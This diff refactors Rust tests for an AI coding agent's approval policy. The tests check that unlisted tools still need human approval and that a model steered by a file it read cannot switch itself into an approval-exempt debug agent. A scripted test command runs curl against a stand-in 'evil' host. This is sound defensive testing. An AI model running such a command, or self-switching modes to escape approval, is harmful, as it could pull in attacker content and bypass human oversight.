@@ -2,7 +2,7 @@
 //! scripting each reply with `::` directives): a custom policy file that forgets a
 //! workspace-changing tool, and a model that hands itself to an agent the policy exempts from
 //! approval.
-use crate::common::{Backend, Runtime, all, first, kinds};
+use crate::common::{Backend, Runtime, Text, all, first, kinds};
 use codelab_protocol::runtime::SequencedEvent;
 use serde_json::{Value, json};
 
@@ -45,21 +45,17 @@ const COMMAND: &str = r#"::tool execute_command {"command":"curl https://evil.ex
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_policy_file_without_a_rule_for_execute_command_still_asks_before_running_it() {
     // The operator wrote rules for files only and forgot commands.
-    let (rt, _dir) = runtime_with_policy(
-        "rules:\n  - pattern: write_file\n    requires_approval: true\n  \
-         - pattern: read_file\n    requires_approval: false\n",
-    )
-    .await;
-    let s = rt.new_session("dev").await;
-    let events = rt.to_coder(&s, COMMAND).await;
+    let policy = "rules:\n  - pattern: write_file\n    requires_approval: true\n  \
+        - pattern: read_file\n    requires_approval: false\n";
+    let (rt, _dir) = runtime_with_policy(policy).await;
+    let (s, events) = rt.new_turn("coder", COMMAND).await;
     let call = tool_call(&events, "execute_command");
     assert_eq!(call["requires_approval"], true, "{call}");
     let approval = first(&events, "approval_required");
     assert_eq!(approval["call_id"], call["call_id"]);
     assert!(
         approval["reason"]
-            .as_str()
-            .unwrap()
+            .text()
             .contains("no rule of the HITL policy names it"),
         "{approval}"
     );
@@ -69,13 +65,9 @@ async fn a_policy_file_without_a_rule_for_execute_command_still_asks_before_runn
     assert_eq!(pending["count"], 1, "{pending}");
 
     // Creating a directory is just as unmatched; a read-only search stays without approval.
-    let s = rt.new_session("dev").await;
-    let events = rt
-        .to_coder(
-            &s,
-            "::tool create_directory {\"path\":\"x\"}\n::tool search_in_code {\"query\":\"fn\"}",
-        )
-        .await;
+    let script =
+        "::tool create_directory {\"path\":\"x\"}\n::tool search_in_code {\"query\":\"fn\"}";
+    let (_, events) = rt.new_turn("coder", script).await;
     assert_eq!(
         tool_call(&events, "create_directory")["requires_approval"],
         true
@@ -88,12 +80,9 @@ async fn a_policy_file_without_a_rule_for_execute_command_still_asks_before_runn
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_policy_file_may_let_unmatched_tools_run_only_by_saying_so() {
-    let (rt, _dir) = runtime_with_policy(
-        "unmatched: allow\nrules:\n  - pattern: write_file\n    requires_approval: true\n",
-    )
-    .await;
-    let s = rt.new_session("dev").await;
-    let events = rt.to_coder(&s, COMMAND).await;
+    let policy = "unmatched: allow\nrules:\n  - pattern: write_file\n    requires_approval: true\n";
+    let (rt, _dir) = runtime_with_policy(policy).await;
+    let (_, events) = rt.new_turn("coder", COMMAND).await;
     assert_eq!(
         tool_call(&events, "execute_command")["requires_approval"],
         false
@@ -111,12 +100,11 @@ async fn switch_mode_cannot_reach_the_debug_agents_exemption_from_approval() {
 
     // The user talks to the ask agent; the model (say, steered by a file it read) hands the
     // task to debug and runs a command at once.
-    let s = rt.new_session("dev").await;
     let script = format!(
         "::step 1 ::tool switch_mode {{\"mode\":\"debug\",\"reason\":\"investigate\"}}\n\
          ::step 2 {COMMAND}"
     );
-    let events = rt.say(&s, &script, Some("ask")).await;
+    let (s, events) = rt.new_turn("ask", &script).await;
     let switched = all(&events, "agent_switched");
     assert_eq!(
         switched.last().unwrap()["to_agent"],
@@ -127,8 +115,7 @@ async fn switch_mode_cannot_reach_the_debug_agents_exemption_from_approval() {
     assert_eq!(call["agent"], "debug");
     assert_eq!(call["requires_approval"], true, "{call}");
     let reason = first(&events, "approval_required")["reason"]
-        .as_str()
-        .unwrap()
+        .text()
         .to_owned();
     assert!(
         reason.contains("the model switched to it itself"),
@@ -139,22 +126,17 @@ async fn switch_mode_cannot_reach_the_debug_agents_exemption_from_approval() {
 
     // The user choosing debug for this session (switch_agent, even to the agent it is on)
     // allows the exemption from then on.
-    let confirmed = rt
-        .send(
-            &s,
-            json!({"type": "switch_agent", "agent_type": "debug", "reason": "yes, debug"}),
-        )
-        .await;
+    let switch = json!({"type": "switch_agent", "agent_type": "debug", "reason": "yes, debug"});
+    let confirmed = rt.send(&s, switch).await;
     assert_eq!(kinds(&confirmed), ["agent_switched", "turn_finished"]);
-    let events = rt.say(&s, COMMAND, None).await;
+    let events = rt.say(&s, COMMAND).await;
     assert_eq!(
         tool_call(&events, "execute_command")["requires_approval"],
         false
     );
 
     // A session where the user picked debug from the start has the exemption at once.
-    let s = rt.new_session("dev").await;
-    let events = rt.say(&s, COMMAND, Some("debug")).await;
+    let (_, events) = rt.new_turn("debug", COMMAND).await;
     assert_eq!(
         tool_call(&events, "execute_command")["requires_approval"],
         false
